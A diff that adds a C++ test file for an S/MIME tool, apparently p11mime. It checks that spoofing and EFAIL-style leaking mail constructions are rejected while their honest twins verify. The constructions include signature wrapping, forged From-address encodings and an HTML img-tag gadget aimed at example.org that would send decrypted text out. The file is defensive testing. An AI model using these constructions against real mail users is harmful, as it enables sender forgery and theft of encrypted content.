@@ -1,0 +1,285 @@
+// Spoofing and leaking constructions of the classes published as "Johnny, you are fired!" (Müller et al., 2019) and
+// EFAIL (Poddebniak et al., 2018), each beside its honest twin. The twin is valid; the construction never is.
+
+#include <catch2/catch.hpp>
+#include <filesystem>
+#include <iostream>
+#include <nlohmann/json.hpp>
+
+#include "softhsm-tests/support/office.h"
+#include "softhsm-tests/support/table.h"
+
+using namespace p11mime::test;
+
+namespace {
+
+constexpr const char* kAlice = "alice@example.gov";
+constexpr const char* kBob = "bob@example.gov";
+constexpr const char* kEve = "eve@example.org";
+
+/// Stage is what the constructions are made with. Alice, Eve and Bob all have trusted certificates; Bob reads.
+struct Stage {
+    Office office;
+    Identity alice = office.employ({.name = "Alice", .email = kAlice, .kind = KeyKind::p256});
+    Identity eve = office.employ({.name = "Eve", .email = kEve, .kind = KeyKind::p256});
+    Identity bob = office.employ({.name = "Bob", .email = kBob, .kind = KeyKind::rsa2048});
+
+    std::string p11mime(const Arguments& arguments, const std::string& input) const {
+        return done(office.desk.p11mime(arguments, input));
+    }
+    std::string sign(const std::string& text, const Arguments& options = {}) const {
+        return p11mime(Arguments{"sign"} + options, text);
+    }
+    /// part is an entity signed by itself.
+    std::string part(const std::string& entity, const char* signer = kAlice) const {
+        return sign(entity, {"--entity", "--from", signer});
+    }
+    std::string encrypt(const std::string& text, const Arguments& options = {}) const {
+        return p11mime(
+            Arguments{"encrypt", "--no-self", "--recipient-cert", office.certificate(bob)} + options + office.trust(),
+            text);
+    }
+    std::string seal(const std::string& text, const Arguments& options = {}) const {
+        return p11mime(
+            Arguments{"seal", "--no-self", "--recipient-cert", office.certificate(bob)} + options + office.trust(),
+            text);
+    }
+    /// verdict is the result of a mail, and the exit code.
+    std::string verdict(const std::string& text, const char* command) const {
+        const std::string report = office.desk.path("report.json");
+        std::filesystem::remove(report);
+        const Outcome outcome = office.desk.p11mime(Arguments{command, "-n", "--json", report} + office.trust(), text);
+        UNSCOPED_INFO(outcome.err);
+        const auto json = nlohmann::json::parse(read_file(report));
+        return json["result"].get<std::string>() + " " + std::to_string(outcome.status);
+    }
+};
+
+const std::string kPlain = "Content-Type: text/plain\r\n\r\nPay 10 to Bob.\r\n";
+const std::string kOther = "Content-Type: text/plain\r\n\r\nPay 1000 to Eve.\r\n";
+
+std::string multipart(const std::string& type, const std::vector<std::string>& parts, const std::string& before = {},
+                      const std::string& after = {}) {
+    std::string text = "Content-Type: " + type + "; boundary=outer\r\n\r\n" + before;
+    for (const std::string& part : parts)
+        text += "\r\n--outer\r\n" + part;
+    return text + "\r\n--outer--\r\n" + after;
+}
+
+std::string from_alice(const std::string& entity) {
+    return mail(kAlice, kBob, entity);
+}
+
+std::string attached(const std::string& text, const std::string& parameters = {}) {
+    return "Content-Type: message/rfc822" + parameters + "\r\n\r\n" + text;
+}
+
+/// last_boundary is where the close delimiter of a signed mail starts.
+std::size_t last_boundary(const std::string& text) {
+    return text.rfind("\r\n--p11mime-") + 2;
+}
+
+/// with_part_behind puts a part behind the signature.
+std::string with_part_behind(const std::string& signed_mail, const std::string& part) {
+    const std::size_t at = last_boundary(signed_mail);
+    const std::string delimiter = signed_mail.substr(at, signed_mail.find("--\r\n", at + 2) - at);
+    return signed_mail.substr(0, at) + delimiter + "\r\n" + part + "\r\n" + signed_mail.substr(at);
+}
+
+/// with_signature puts another signature (base64) into a clear-signed mail.
+std::string with_signature(const std::string& signed_mail, const std::string& base64) {
+    const std::size_t begin = signed_mail.find("\r\n\r\n", signed_mail.find("smime.p7s\r\n")) + 4;
+    return signed_mail.substr(0, begin) + base64 + signed_mail.substr(last_boundary(signed_mail));
+}
+
+/// Row is a construction and its twin.
+struct Row {
+    std::string name;
+    std::string twin;
+    std::string construction;
+    const char* command = "open";
+};
+
+std::vector<Row> coverage_rows(const Stage& stage) {
+    const auto whole = [&](const std::string& entity) { return stage.sign(from_alice(entity)); };
+    const std::string clear = whole(kPlain);
+    const std::string mixed = "multipart/mixed", alternative = "multipart/alternative", related = "multipart/related";
+    const std::string image = "Content-Type: text/plain\r\nContent-ID: <signed>\r\n\r\nPay 10 to Bob.\r\n";
+    const std::string html = "Content-Type: text/html\r\n\r\n<p>Pay 1000 to Eve<img src=\"cid:signed\"></p>\r\n";
+    const std::string part = stage.part(kPlain);
+    const std::string opaque_part = stage.sign(kPlain, {"--from", kAlice, "--opaque"});
+    const std::string own_content = body_of(opaque_part);
+    const std::string certificates = stage.office.desk.file(
+        "certificates.der", done(stage.office.desk.run({"openssl", "crl2pkcs7", "-nocrl", "-certfile",
+                                                        stage.office.certificate(stage.alice), "-outform", "DER"})));
+    const std::string no_signers = done(stage.office.desk.run({"openssl", "base64", "-in", certificates}));
+    return {
+        {"a list's footer beside the signed part", whole(multipart(mixed, {kPlain, kOther})),
+         from_alice(multipart(mixed, {part, kOther}))},
+        {"text before the signed part", whole(multipart(mixed, {kOther, kPlain})),
+         from_alice(multipart(mixed, {kOther, part}))},
+        {"an opaque signed part as an attachment", whole(multipart(mixed, {kOther, kPlain})),
+         from_alice(multipart(mixed, {kOther, opaque_part}))},
+        {"a signed mail attached to an unsigned one", whole(multipart(mixed, {kOther, attached(clear)})),
+         from_alice(multipart(mixed, {kOther, attached(clear)}))},
+        {"a signed mail as the only content of an unsigned one", clear, from_alice(attached(clear))},
+        {"multipart/alternative around a signed part", whole(multipart(alternative, {kOther, kPlain})),
+         from_alice(multipart(alternative, {kOther, part}))},
+        {"multipart/related around a signed part", whole(multipart(related, {html, image})),
+         from_alice(multipart(related, {html, stage.part(image)}))},
+        {"a signed part hidden behind a content ID", whole(multipart(related, {html, image})),
+         from_alice(
+             multipart(related, {html, replaced(part, "Content-Type:", "Content-ID: <signed>\r\nContent-Type:")}))},
+        {"text before the parts of the signature",
+         replaced(clear, "\r\n\r\n--p11mime", "\r\n\r\nThis is an S/MIME signed message\r\n\r\n--p11mime"),
+         replaced(clear, "\r\n\r\n--p11mime", "\r\n\r\nPay 1000 to Eve.\r\n\r\n--p11mime")},
+        {"text after the parts of the signature", clear + "\r\n\r\n", clear + "Pay 1000 to Eve.\r\n"},
+        {"a further text in the signed multipart", clear, with_part_behind(clear, kOther)},
+        {"a second signature part", clear,
+         with_part_behind(clear, "Content-Type: application/pkcs7-signature\r\n\r\n" + own_content)},
+        {"a signature part with content of its own", clear, with_signature(clear, own_content)},
+        {"a signature part without any signer", clear, with_signature(clear, no_signers)},
+        {"two Content-Type fields", clear, replaced(clear, "MIME-Version", "Content-Type: text/html\r\nMIME-Version")},
+        {"two Content-Type fields, the other last", clear,
+         replaced(clear, "\r\n\r\n--p11mime", "\r\nContent-Type: text/html\r\n\r\n--p11mime")},
+        {"two Subject fields", clear, "Subject: Pay Eve\r\n" + clear},
+        {"two boundaries", clear, replaced(clear, "\"\r\n\r\n--p11mime", "\"; boundary=other\r\n\r\n--p11mime")},
+        {"a boundary in two forms", clear, replaced(clear, "micalg=", "boundary*=utf-8''other; micalg=")},
+        {"a type that says something else", stage.sign(from_alice(kPlain), {"--opaque"}),
+         replaced(stage.sign(from_alice(kPlain), {"--opaque"}), "signed-data", "enveloped-data")},
+    };
+}
+
+std::vector<Row> encryption_rows(const Stage& stage) {
+    const std::string sealed = stage.seal(from_alice(kPlain)), triple = stage.seal(from_alice(kPlain), {"--triple"});
+    const std::string secret = entity_of(stage.encrypt(from_alice(kPlain)));
+    const std::string signed_secret = entity_of(stage.seal(from_alice(kPlain), {"--no-protect-headers"}));
+    const std::string by_eve =
+        entity_of(stage.encrypt("From: alice@example.gov\r\n" + stage.part(kPlain, kEve), {"--cipher", "aes-256-gcm"}));
+    const std::string open_html = "Content-Type: text/html\r\n\r\n<img src=\"http://example.org/\r\n";
+    const std::string shut_html = "Content-Type: text/html\r\n\r\n\">\r\n";
+    const auto flipped = [&](const std::string& cipher) {
+        const std::string mail = stage.seal(from_alice(kPlain), {"--cipher", cipher, "--form", "der"});
+        std::string changed = mail;
+        changed[changed.size() - 100] = static_cast<char>(changed[changed.size() - 100] ^ 1);
+        return std::pair(mail, changed);
+    };
+    const auto [cbc, changed_cbc] = flipped("aes-256-cbc");
+    const auto [gcm, changed_gcm] = flipped("aes-256-gcm");
+    const std::string pgp =
+        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=pgp\r\n\r\n"
+        "--pgp\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--pgp\r\n"
+        "Content-Type: application/octet-stream\r\n\r\nx\r\n--pgp--\r\n";
+    return {
+        {"EFAIL: an encrypted part between HTML", sealed,
+         from_alice(multipart("multipart/mixed", {open_html, secret, shut_html}))},
+        {"EFAIL: a signed and encrypted part between HTML", sealed,
+         from_alice(multipart("multipart/mixed", {open_html, signed_secret, shut_html}))},
+        {"EFAIL: changed ciphertext without authentication", cbc, changed_cbc},
+        {"EFAIL: changed ciphertext with authentication", gcm, changed_gcm},
+        {"encrypted and not signed", sealed, stage.encrypt(from_alice(kPlain))},
+        {"signed outside the encryption alone", triple, stage.sign(from_alice(secret))},
+        {"the same, not decrypted", stage.sign(from_alice(kPlain)), stage.sign(from_alice(secret)), "verify"},
+        {"another's ciphertext, signed by Eve", stage.seal(mail(kEve, kBob, kPlain)),
+         stage.sign(mail(kEve, kBob, secret))},
+        {"Eve's text, signed by Alice once encrypted", triple, stage.sign(from_alice(by_eve))},
+        {"a signature over PGP/MIME", stage.sign(from_alice(kPlain)), stage.sign(from_alice(pgp))},
+    };
+}
+
+std::vector<Row> sender_rows(const Stage& stage) {
+    const std::string honest = stage.sign(mail("Eve <eve@example.org>", kBob, kPlain));
+    const auto signed_by_eve = [&](const std::string& from) { return replaced(honest, "Eve <eve@example.org>", from); };
+    const auto row = [&](const char* name, const std::string& from) { return Row{name, honest, signed_by_eve(from)}; };
+    const std::string clear = stage.sign(from_alice(kPlain));
+    const std::string protected_mail = stage.sign(mail("Eve <eve@example.org>", kBob, kPlain), {"--protect-headers"});
+    const std::string inner = "From: alice@example.gov\r\nSubject: Pay\r\n" + kPlain;
+    const std::string v1 =
+        "Content-Type: text/plain; protected-headers=\"v1\"\r\nFrom: eve@example.org\r\n\r\nPay.\r\n";
+    const auto outside = [&](const std::string& entity, const char* from) {
+        return "From: " + std::string(from) + "\r\nMIME-Version: 1.0\r\n" + stage.part(entity, kEve);
+    };
+    return {
+        row("signed by another", kAlice),
+        row("the address as the display name", "\"alice@example.gov\" <eve@example.org>"),
+        row("the address before the sender's", "alice@example.gov <eve@example.org>"),
+        row("the address in a comment", "eve@example.org (alice@example.gov)"),
+        row("the address in an encoded word", "=?utf-8?q?alice=40example.gov?= <eve@example.org>"),
+        row("the address in an encoded word, with NUL", "=?utf-8?q?alice=40example.gov=00?= <eve@example.org>"),
+        row("an encoded word as the local part", "=?utf-8?q?alice=40example.gov=00?=@example.org"),
+        row("NUL in the field", std::string("alice@example.gov\0 <eve@example.org>", 36)),
+        row("the address as the name of a group", "alice@example.gov: eve@example.org;"),
+        row("the address as a route", "<@example.gov:eve@example.org>"),
+        row("odd quoting", "\"alice@example.gov\"@example.org"),
+        row("an entry that cannot be read", "Alice, eve@example.org"),
+        row("a wide @",
+            "alice\xef\xbc\xa0"
+            "example.gov <eve@example.org>"),
+        row("both senders", "alice@example.gov, eve@example.org"),
+        {"two From fields, the other's first", honest, "From: alice@example.gov\r\n" + honest},
+        {"two From fields, the other's last", honest,
+         replaced(honest, "MIME-Version", "From: alice@example.gov\r\nMIME-Version")},
+        {"two From fields of one sender", clear, "From: alice@example.gov\r\n" + clear},
+        {"the protected sender is another", protected_mail,
+         replaced(protected_mail, "Eve <eve@example.org>", "alice@example.gov")},
+        {"the protected sender is another, old form", outside(v1, kEve), outside(v1, kAlice)},
+        {"the sender inside a wrapped mail", outside(attached(inner, "; forwarded=yes"), kEve),
+         outside(attached(inner), kEve)},
+        {"the sender inside the signed header", outside("Subject: Pay\r\n" + kPlain, kEve),
+         outside("From: alice@example.gov\r\n" + kPlain, kEve)},
+    };
+}
+
+}  // namespace
+
+TEST_CASE("spoofing and leaking constructions are never valid, their honest twins are", "[e2e]") {
+    const Stage stage;
+    Table table;
+    std::vector<Row> rows = coverage_rows(stage);
+    for (const auto& more : {encryption_rows(stage), sender_rows(stage)})
+        rows.insert(rows.end(), more.begin(), more.end());
+    std::map<std::string, std::string> twins;
+    for (const Row& row : rows) {
+        INFO(row.name);
+        std::string& twin = twins[row.command + row.twin];
+        if (twin.empty()) twin = stage.verdict(row.twin, row.command);
+        const std::string construction = stage.verdict(row.construction, row.command);
+        CHECK(twin == "valid 0");
+        CHECK_THAT(construction, !Catch::StartsWith("valid"));
+        table.set(row.name, "twin", twin == "valid 0" ? kOk : twin);
+        table.set(row.name, "construction", construction);
+    }
+    std::cout << table.text();
+}
+
+TEST_CASE("two signers of whom one fails are not valid", "[e2e]") {
+    const Stage stage;
+    const auto& desk = stage.office.desk;
+    const std::string entity = desk.file("entity", kPlain);
+    std::string der =
+        done(desk.run({"openssl", "cms", "-sign", "-binary", "-nodetach", "-outform", "DER", "-in", entity, "-signer",
+                       stage.office.certificate(stage.alice), "-inkey", stage.office.key(stage.alice), "-signer",
+                       stage.office.certificate(stage.eve), "-inkey", stage.office.key(stage.eve)}));
+    CHECK(stage.verdict(der, "verify") == "valid 0");
+    der.back() = static_cast<char>(der.back() ^ 1);  // in the last signature
+    CHECK(stage.verdict(der, "verify") == "invalid 1");
+}
+
+TEST_CASE("an address that looks like a correspondent's is not valid", "[e2e]") {
+    const Stage stage;
+    const auto& office = stage.office;
+    const auto read = [&](const char* name, const char* address) {
+        const Identity writer = office.pki.issue({.name = name, .email = address, .kind = KeyKind::p256});
+        const std::string key = office.desk.file("writer.key", writer.key_pem);
+        const std::string certificate = office.desk.file("writer.pem", writer.certificate_pem);
+        const std::string entity = office.desk.file("entity", kPlain);
+        return stage.verdict(done(office.desk.run({"openssl", "cms", "-sign", "-binary", "-from", address, "-in",
+                                                   entity, "-signer", certificate, "-inkey", key})),
+                             "verify");
+    };
+    CHECK(read("A", "a1ice@example.gov") == "valid 0");
+    CHECK(office.desk.p11mime({"certs", "import", office.certificate(stage.alice)}).status == 0);
+    CHECK(read("A", "a1ice@example.gov") == "untrusted 3");
+    CHECK(read("C", "carol@example.gov") == "valid 0");
+    CHECK(read("Alice", "alice@example.gov") == "valid 0");
+}
